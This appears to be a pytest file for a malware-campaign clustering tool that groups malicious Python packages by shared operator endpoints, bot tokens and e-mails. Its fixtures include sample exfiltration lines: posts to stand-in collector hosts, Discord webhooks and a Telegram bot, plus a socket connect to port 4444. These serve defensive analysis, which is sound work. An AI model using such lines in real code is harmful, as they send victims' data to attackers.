"""Campaign grouping: packages sharing an operator's endpoint, token, e-mail or code are one campaign;
shared services and anything a benign package also has link nothing."""

from __future__ import annotations

from vetpy.lab.campaigns import SHARED_AT_CREDENTIALS, campaign_keys, find_campaigns, shared_by_operators

TOKEN = "123456789:" + "a" * 35


def test_keys_name_operator_endpoints_not_shared_services() -> None:
    text = (
        "requests.post('https://evil-collector.xyz/api', data=d)\n"
        "requests.get('https://github.com/psf/requests')\n"  # well-known: no key
        "urlopen('https://pastebin.com/raw/abc123')\n"  # shared service: keyed by its path
        "urlopen('https://webhook.site')\n"  # a shared service with no path names no one
        f"requests.post('https://api.telegram.org/bot{TOKEN}/sendMessage')\n"
        "s.connect(('45.9.148.3', 4444)); s2.connect(('10.0.0.1', 1)); dns = '8.8.8.8'\n"
        "author_email='operator@proton.me'\n"
    )
    keys = campaign_keys(text)
    assert "host:evil-collector.xyz" in keys
    assert "url:pastebin.com/raw/abc123" in keys
    assert "ip:45.9.148.3" in keys
    assert f"endpoint:telegram_bot:{TOKEN}" in keys
    assert "email:operator@proton.me" in keys
    assert not any("github.com" in k or "10.0.0.1" in k or "8.8.8.8" in k for k in keys)
    assert "url:webhook.site/" not in keys and not any(k.startswith("host:webhook.site") for k in keys)


def test_connected_components_over_shared_keys() -> None:
    texts = [
        "post('https://a-collector.xyz/x')",  # 0 -- host --> 1
        "post('https://a-collector.xyz/y') author_email='x@proton.me'",  # 1 -- email --> 2
        "author_email='x@proton.me'",  # 2
        "post('https://b-collector.xyz/')",  # 3 alone
        "post('https://shared-cdn.example-cdn.net/lib.js')",  # 4 shares a host with a benign package
        "post('https://shared-cdn.example-cdn.net/lib.js')",  # 5 (benign)
        "post('https://shared-cdn.example-cdn.net/other.js')",  # 6 would join 4 if benign did not veto
        "nothing here",  # 7: near-duplicate of 3
    ]
    labels = [1, 1, 1, 1, 1, 0, 1, 1]
    dup = ["d0", "d1", "d2", "d3", "d4", "d5", "d6", "d3"]
    campaigns = find_campaigns(texts, labels, dup)
    ids = campaigns.ids
    assert ids[0] == ids[1] == ids[2]
    assert ids[3] == ids[7] != ids[0]
    assert ids[4] != ids[6]
    assert ids[5] is None
    assert campaigns.benign_keys_ignored == 1
    assert campaigns.sizes()[0] == 3


def test_dotted_digits_that_are_not_addresses_are_no_campaign_key() -> None:
    from vetpy.lab.campaigns import campaign_keys

    assert not [k for k in campaign_keys("version 0.2.00.3 and 1.2.3.4") if k == "ip:0.2.00.3"]


def hook(n: int) -> str:
    return f"post('https://discord.com/api/webhooks/{100000000000000000 + n}/{'k' * 30}{n}')"


def test_a_key_copied_between_operators_links_nothing() -> None:
    """Three stealers posting to three different webhooks share a template's target-site host: that host
    is copied, not an operator's mark, so it does not chain them into one campaign."""
    texts = [f"{hook(n)}\nurl = 'https://target-site.xyz/login'" for n in range(3)]
    campaigns = find_campaigns(texts, [1, 1, 1], ["d0", "d1", "d2"])
    assert len(set(campaigns.ids)) == 3
    shared = shared_by_operators([campaign_keys(t) for t in texts])
    assert "host:target-site.xyz" in shared and not [k for k in shared if k.startswith("endpoint:")]
    assert campaigns.shared_keys_ignored == len(shared)


def test_two_credentials_sharing_an_endpoint_may_be_one_operator() -> None:
    """Below the cutoff a shared host still links: an operator replaces a deleted webhook."""
    texts = [f"{hook(n)}\nurl = 'https://my-collector.xyz/up'" for n in range(SHARED_AT_CREDENTIALS - 1)]
    campaigns = find_campaigns(texts, [1] * len(texts), [f"d{i}" for i in range(len(texts))])
    assert len(set(campaigns.ids)) == 1
    assert campaigns.shared_keys_ignored == 0


def test_a_real_shared_endpoint_links_however_many_copies() -> None:
    """One operator's e-mail across many unrelated-looking setup.py files (no credential contradicts it)
    stays one campaign, and so does one webhook whose packages also post elsewhere."""
    texts = [f"author_email='op@proton.me' marker{i}" for i in range(40)]
    campaigns = find_campaigns(texts, [1] * 40, [f"d{i}" for i in range(40)])
    assert campaigns.sizes() == [40]
    webhook_everywhere = [f"{hook(0)}\n{hook(n)}" for n in range(1, 5)]
    campaigns = find_campaigns(webhook_everywhere, [1] * 4, ["a", "b", "c", "d"])
    assert campaigns.sizes() == [4]


def test_format_string_paths_are_no_key() -> None:
    keys = campaign_keys("url = f'https://cdn.discordapp.com/avatars/{uid}/{av}.png'")
    assert not [k for k in keys if "avatars" in k]
    assert "url:cdn.discordapp.com/attachments/123" in campaign_keys(
        "icon = 'https://cdn.discordapp.com/attachments/123/456/a.png'"
    )
